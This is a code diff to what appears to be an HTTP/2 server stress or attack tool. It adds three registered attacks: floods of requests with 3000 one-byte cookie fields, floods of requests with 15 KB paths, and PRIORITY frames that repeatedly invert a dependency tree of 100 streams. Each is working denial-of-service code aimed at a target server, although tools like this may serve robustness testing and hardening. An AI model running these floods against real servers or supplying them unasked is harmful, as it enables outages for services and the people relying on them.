@@ -80,6 +80,19 @@ def header_fields(target):
     return lambda: flood(target, blobs)
 
 
+@attack("cookie-crumbs", "3000 cookie fields of 1 byte in each request")
+def cookie_crumbs(target):
+    blobs = streams(lambda stream: headers(stream, get(target) + literal(32, b"a") * 3000), ready=1000, chunk=20)
+    return lambda: flood(target, blobs)
+
+
+@attack("header-path", "requests whose path has 15 KB")
+def header_path(target):
+    block = get(target, b"/" + b"a" * 15000)
+    blobs = streams(lambda stream: headers(stream, block), ready=1000, chunk=20)
+    return lambda: flood(target, blobs)
+
+
 @attack("header-block-1mb", "header blocks of 1 MiB in HEADERS and CONTINUATION")
 def header_block_1mb(target):
     block = get(target) + literal(b"a", b"b" * 8000) * 131
@@ -327,6 +340,14 @@ control("garbage", "random bytes after the preface", os.urandom(65536))
 def priority_idle(target):
     blobs = streams(lambda stream: priority(stream, (stream - 2) if stream > 2 else 0))
     return lambda: flood(target, blobs)
+
+
+@attack("priority-tree", "PRIORITY that turns the tree of 100 open streams around")
+def priority_tree(target):
+    opening = b"".join(headers(stream, post(target), False) for stream in range(1, 201, 2))
+    turns = b"".join(priority(stream, (0 if stream < 3 else stream - 2) | 1 << 31) for stream in range(1, 201, 2))
+    turns += b"".join(priority(stream, (0 if stream > 197 else stream + 2) | 1 << 31) for stream in range(199, 0, -2))
+    return lambda: flood(target, repeat(turns), opening=opening)
 
 
 @attack("window-update-streams", "requests, each with 100 WINDOW_UPDATEs of its stream")
